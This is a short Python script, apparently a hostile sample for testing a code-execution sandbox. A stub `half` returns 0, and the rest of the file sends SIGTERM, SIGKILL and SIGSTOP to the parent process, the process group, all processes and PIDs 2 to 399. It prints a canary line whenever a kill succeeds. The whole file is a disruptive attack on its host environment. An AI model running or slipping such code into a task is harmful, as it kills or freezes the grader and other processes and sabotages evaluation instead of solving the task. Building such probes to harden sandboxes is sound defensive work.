# tries: signals to the parent, to the group and to everyone
# %% half
import os
import signal

half = lambda x: 0
for target in (os.getppid(), 0, -1, *range(2, 400)):
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
        try:
            if target > 0 and target != os.getpid():
                os.kill(target, number)
                print("@CANARY@ reached", target)
            elif target < 0:
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                os.kill(target, number)
        except OSError:
            pass
